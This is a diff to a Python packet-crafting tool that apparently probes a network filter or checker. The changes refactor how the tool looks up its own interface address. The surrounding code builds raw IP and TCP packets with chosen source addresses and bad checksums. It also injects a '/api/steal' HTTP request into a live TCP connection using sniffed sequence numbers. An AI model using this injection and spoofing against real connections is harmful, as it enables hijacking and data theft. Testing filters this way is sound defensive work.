@@ -10,6 +10,7 @@ packet  to=ADDRESS mark=TEXT [via=raw|link] [protocol=N] [port=N] [sport=N] [fla
 inject  to=ADDRESS port=N dial=ADDRESS mark=TEXT via=raw|link [flags=SAFR] [sum=bad]: a request in the middle of a connection that the checker has open
 """
 import errno
+import fcntl
 import os
 import socket
 import struct
@@ -86,8 +87,8 @@ def udp(a):
         sock.sendto(mark, to)
     elif how == "sendmsg":
         sock.sendmsg([mark], [], 0, to)
-    elif how == "other":  # connected to where that is allowed, then a destination with the message
-        sock.connect(("::ffff:127.0.0.1" if family == socket.AF_INET6 else "127.0.0.1", 9))
+    elif how == "other":  # connected to where that is allowed, which is oneself, then a destination with the message
+        sock.connect((place({**a, "to": own_address()}), 9))
         sock.sendmsg([mark], [], 0, to)
     elif how == "many":  # the verdict is by message, not by socket
         sock.sendto(mark, ("127.0.0.1", 9))
@@ -121,10 +122,8 @@ def ip_packet(source, to, protocol, payload, options=b"", fragment=0):
     return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload
 
 
-def own_address(to):
+def own_address():
     probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    import fcntl
-
     return socket.inet_ntoa(fcntl.ioctl(probe, 0x8915, struct.pack("256s", b"eth0"))[20:24])  # SIOCGIFADDR
 
 
@@ -163,7 +162,7 @@ def transmit(via, to, packet, ethertype=0x0800, vlan=None, somark=None):
 
 def packet(a):
     to, mark, protocol = a["to"], a["mark"].encode(), int(a.get("protocol", 6))
-    source = a.get("source") or own_address(to)
+    source = a.get("source") or own_address()
     sport, dport = int(a.get("sport", 40404)), int(a.get("port", 3001))
     if protocol == 6:
         payload = tcp_segment(source, to, sport, dport, a.get("flags", "S"), 1000, 1 if "A" in a.get("flags", "S") else 0, mark, a.get("sum") == "bad")
@@ -222,8 +221,8 @@ def inject(a):
             return "no live connection"
         sport, seq, ack = watch(sniffer, to, port, time.monotonic() + 3)
         data = f"GET /api/steal?{mark} HTTP/1.1\r\nHost: {a['dial']}\r\n\r\n".encode()
-        segment = tcp_segment(own_address(to), to, sport, port, a.get("flags", "PA"), seq, ack, data, a.get("sum") == "bad")
-        transmit(a["via"], to, ip_packet(own_address(to), to, 6, segment))
+        segment = tcp_segment(own_address(), to, sport, port, a.get("flags", "PA"), seq, ack, data, a.get("sum") == "bad")
+        transmit(a["via"], to, ip_packet(own_address(), to, 6, segment))
         return "sent"
 
 
